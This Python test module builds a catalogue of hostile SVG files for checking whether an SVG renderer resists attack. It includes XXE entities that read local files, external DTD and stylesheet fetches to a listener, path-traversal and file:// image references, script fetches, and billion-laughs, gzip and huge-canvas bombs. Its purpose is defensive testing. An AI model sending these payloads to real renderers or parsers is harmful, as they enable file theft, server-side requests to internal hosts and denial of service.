"""Drawings made to reach files and addresses that are not theirs, or to keep their renderer busy; all made here."""

from __future__ import annotations

import base64
import gzip
from pathlib import Path

from hostile import bombs
from sightline.runtime.vector import MAX_ELEMENTS

SECRET = (255, 0, 255)  # the colour of every secret file, and of what the listener answers
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30">'


def svg(inside: str, head: str = HEAD) -> bytes:
    return f"{head}{inside}</svg>".encode()


def attacks(web: str, files: dict[str, Path]) -> dict[str, bytes]:
    """Name -> drawing. `web` is the address of a listener, `files` are secret files by name."""

    def data_uri(inner: bytes) -> str:
        return "data:image/svg+xml;base64," + base64.b64encode(inner).decode()

    image = '<image width="40" height="30" {}href="{}"/>'
    square = '<rect width="40" height="30"/>'
    places = [
        f"file://{files['s.png']}",
        str(files["s.png"]),
        f"{web}/image.png",
        f"//{web[7:]}/image.png",
        f"FILE://{files['s.png']}",
    ]
    made = {f"image {place[:7]} {xlink}": svg(image.format(xlink, place)) for place in places for xlink in ("", "xlink:")}
    bomb = base64.b64encode(dict(bombs())["bomb-20000.png"]).decode()
    entity = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{}">]>'
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    uses = "".join(f'<g id="u{n}">' + f'<use href="#u{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    return made | {
        "relative path": svg(image.format("", "../" * 12 + str(files["s.png"])[1:])),
        "base": svg(image.format("", "s.png"), HEAD.replace("viewBox", f'xml:base="file://{files["s.png"].parent}/" viewBox')),
        "use file": svg(f'<use href="file://{files["s.svg"]}#r"/>'),
        "use path": svg(f'<use xlink:href="{files["s.svg"]}#r"/>'),
        "use web": svg(f'<use href="{web}/use.svg#r"/>'),
        "tref": svg(f'<text y="9"><tref xlink:href="{web}/tref.svg#t"/></text>'),
        "gradient": svg(f'<linearGradient id="g" xlink:href="{web}/g.svg#r"/><rect width="40" height="30" fill="url(#g)"/>'),
        "import": svg(f'<style>@import url("{web}/a.css"); @import "file://{files["s.css"]}";</style>' + square),
        "import escaped": svg(f'<style>@\\69mport "{web}/a.css"; @import/**/url(file://{files["s.css"]});</style>' + square),
        "import in data": svg(f"<style>rect{{fill:url({web}/fill.svg#p)}} text{{font-family:url({web}/f)}}</style>" + square),
        "stylesheet": f'<?xml-stylesheet href="{web}/b.css"?><?xml-stylesheet href="file://{files["s.css"]}"?>'.encode()
        + svg(square),
        "xslt": f'<?xml-stylesheet type="text/xsl" href="{files["s.xsl"]}"?>'.encode() + svg(square),
        "xxe file": entity.format(f"file://{files['s.txt']}").encode() + svg('<rect width="40" height="30" fill="&x;"/>'),
        "xxe web": entity.format(f"{web}/xxe").encode() + svg("<text y='9'>&x;</text>"),
        "outside dtd": f'<!DOCTYPE svg SYSTEM "{web}/dtd">'.encode() + svg(square),
        "parameter entity": f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{web}/p"> %p;]>'.encode() + svg(square),
        "billion laughs": f'<!DOCTYPE svg [<!ENTITY a0 "ha">{laughs}]>'.encode() + svg("<text>&a9;</text>"),
        "billion uses": svg(f'<rect id="u0" width="1" height="1"/>{uses}<use href="#u11"/>'),
        "huge canvas": svg(square, HEAD.replace("viewBox", 'width="100000" height="100000" viewBox')),
        "huge by style": svg(square, HEAD.replace("viewBox", 'style="width:100000px;height:100000px" viewBox')),
        "huge numbers": svg(square, HEAD.replace("viewBox", 'width="1e400" height="-5" viewBox')),
        "narrow": svg(square, HEAD.replace("0 0 40 30", "0 0 1000000 1")),
        "deep": svg("<g>" * 50_000 + "</g>" * 50_000),
        "wide": svg("<g/>" * (3 * MAX_ELEMENTS)),
        "foreign object": svg(
            f'<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{web}/fo"/></foreignObject>'
        ),
        "script": svg(
            f'<script href="{web}/s.js">fetch("{web}/script")</script><rect onclick="{web}/on" width="1" height="1"/>'
        ),
        "filter": svg(
            f'<filter id="f" width="1e9" height="1e9"><feGaussianBlur stdDeviation="1e9"/><feImage href="{web}/fe"/></filter>'
            '<rect width="40" height="30" filter="url(#f)"/>'
        ),
        "pattern": svg(
            '<pattern id="p" width="1e-9" height="1e9" patternUnits="userSpaceOnUse"><rect width="1e9" height="1e9"/></pattern>'
            '<rect width="40" height="30" fill="url(#p)"/>'
        ),
        "svg in svg": svg(image.format("", data_uri(svg(image.format("", f"{web}/inner.png"))))),
        "svg in svg file": svg(image.format("xlink:", data_uri(svg(image.format("", files["s.png"]))))),
        "svg under a picture's name": svg(
            image.format("", "data:image/png;base64," + base64.b64encode(svg(image.format("", f"{web}/inner.png"))).decode())
        ),
        "loop": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>'),
        "gradient loop": svg(
            '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect width="40" height="30" fill="url(#a)"/>'
        ),
        "bomb in picture": svg(image.format("", "data:image/png;base64," + bomb)),
        "gzip bomb": gzip.compress(b"<svg>" + b" " * 60_000_000),
        "nan": svg(square, HEAD.replace("0 0 40 30", "nan nan inf 30")),
        "cut": svg('<rect width="40" height="30" fill="#c82828"/>')[:-20],
        "zeros": bytes(1000),
        "utf-16": f'<?xml version="1.0" encoding="utf-16"?>{svg(image.format("", places[0])).decode()}'.encode("utf-16"),
    }
